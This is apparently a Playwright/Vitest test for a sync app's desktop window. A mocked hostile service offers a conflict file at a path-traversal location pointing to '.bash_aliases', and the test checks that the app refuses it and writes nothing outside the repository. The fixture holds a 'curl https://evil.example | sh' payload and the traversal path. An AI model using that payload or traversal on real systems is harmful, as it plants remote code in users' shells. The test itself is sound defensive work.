import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildRenderer, launchChromium } from '../support/browser.ts';
import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.ts';
import { sha256 } from '../support/flows.ts';
import { pictures, seriousViolations } from '../support/pictures.ts';
import { makeRepo, type TestRepo } from '../support/repo.ts';
import { startTestService, type TestService } from '../support/service.ts';
import { addRepository, initGit, openWindow, type OpenWindow } from '../support/window.ts';

/**
 * Issue 36 in the window: a service that names a conflict at `flows/ci/../../../home/.bash_aliases` and lists
 * content for it. The window never offers to write it: the answer is refused, said on the repository's card, and
 * the home folder gets no new file, whichever button the user reaches.
 */
const IMAGES = pictures('hostile');
const SLOW = { timeout: 30_000 };
const EVIL = 'curl https://evil.example | sh\n';
const HOSTILE = '../../../home/.bash_aliases';

let browser: Browser;
let svc: TestService;
let proxy: FaultProxy;
let repo: TestRepo;
let win: OpenWindow;
let page: Page;

beforeAll(async () => {
  buildRenderer();
  browser = await launchChromium();
  svc = await startTestService();
  proxy = await startFaultProxy(svc.url);
  repo = makeRepo({ 'flows/ci/build.yml': 'build: 1\n', 'flows/ci/deploy.yml': 'deploy: 1\n' });
  initGit(repo);
  mkdirSync(join(repo.dir, 'home'), { recursive: true });
  writeFileSync(join(repo.dir, 'home/.bashrc'), 'echo mine\n');
  win = await openWindow(browser, svc, repo, { env: { FLOWSYNC_URL: proxy.url } });
  page = win.page;
  await addRepository(page, repo.root, '2 files · 0 pending');
}, 120_000);
afterAll(async () => {
  IMAGES.cleanup();
  await win?.close();
  await proxy?.close();
  await svc?.close();
  repo?.cleanup();
  await browser?.close();
});

describe('a hostile service, in the window', () => {
  it('a conflict at a path outside the repository is refused and said; nothing is written outside', async () => {
    proxy.rewrite = (path, answer, body) => {
      const reply = JSON.parse(answer) as { status: string; value?: Record<string, unknown> };
      if (reply.status !== 'success' || !reply.value) return answer;
      if (path.endsWith('/sync_batch/run')) {
        reply.value.conflicts = [
          {
            flow_path: 'flows/ci',
            path: HOSTILE,
            base_hash: null,
            service_hash: sha256(EVIL),
            sent_hash: sha256('x\n'),
            written_by: 'mallory',
            written_at: new Date().toISOString(),
          },
        ];
      } else if (path.endsWith('/list_files')) {
        const withContent = (JSON.parse(body) as { args: { with_content?: boolean } }).args.with_content;
        (reply.value.files as unknown[]).push({
          flow_path: 'flows/ci',
          path: HOSTILE,
          id: 'evil',
          hash: sha256(EVIL),
          size: EVIL.length,
          updated_at: new Date().toISOString(),
          written_by: 'mallory',
          ...(withContent ? { content: EVIL } : {}),
        });
      } else return answer;
      return JSON.stringify(reply);
    };
    // Two files changed: one batch, whose answer names the hostile conflict.
    repo.write('flows/ci/build.yml', 'build: 2\n');
    repo.write('flows/ci/deploy.yml', 'deploy: 2\n');

    const waiting = page.getByRole('region', { name: 'Waiting for you in acme/app' });
    // Whatever the window offers, the user takes the service's version wherever it is offered (and says yes).
    page.on('dialog', (dialog) => void dialog.accept());
    await expect
      .poll(async () => {
        const take = waiting.getByRole('button', { name: "Take the service's" });
        if ((await take.count()) > 0) await take.first().click();
        return (await page.locator('main').textContent()) ?? '';
      }, SLOW)
      .toMatch(/sync_batch[^]*\.\. segment/);
    await IMAGES.take(page, 'refused-answer');
    expect(await seriousViolations(page)).toEqual([]);
    expect(existsSync(join(repo.dir, 'home/.bash_aliases'))).toBe(false);
    expect(readFileSync(join(repo.dir, 'home/.bashrc'), 'utf8')).toBe('echo mine\n');
    expect(await waiting.getByText(HOSTILE).count()).toBe(0);
  });
});
